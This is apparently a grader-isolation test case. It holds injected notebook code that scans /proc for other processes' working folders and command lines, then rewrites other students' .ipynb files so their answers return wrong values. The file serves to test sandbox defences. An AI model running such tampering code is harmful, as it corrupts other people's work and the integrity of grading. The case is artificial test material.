"""Harm to others: find the grader through ``/proc`` (parent, every process's working folder
and command line) and edit another student's notebook, breaking its answers (the old grader
turned the victim's 2/2 into 1/2); also at the victim's known path."""

CODE = '''
import glob as _glob
import os as _os

_targets = {"@@VICTIM@@", "@@SUBMISSIONS@@"}
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()] + [str(_os.getppid())]:
    try:
        _targets.add(_os.readlink(f"/proc/{_pid}/cwd"))
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _targets.update(a.decode() for a in _f.read().split(b"\\0") if a)
    except OSError:
        pass
for _target in _targets:
    _paths = [_target] if _target.endswith(".ipynb") else _glob.glob(
        _os.path.join(_target, "**", "*.ipynb"), recursive=True)
    for _path in _paths:
        if "edit_victim" in _path:
            continue
        try:
            with open(_path) as _f:
                _text = _f.read()
            with open(_path, "w") as _f:
                _f.write(_text.replace("return ", "return 1 + "))
        except OSError:
            pass
'''
CELLS = [("after_imports", CODE), ("exercise", CODE)]
SOLVE = ()
EXPECTED = {"tensor_nbytes": "not done", "pick_training_dtype": "not done"}
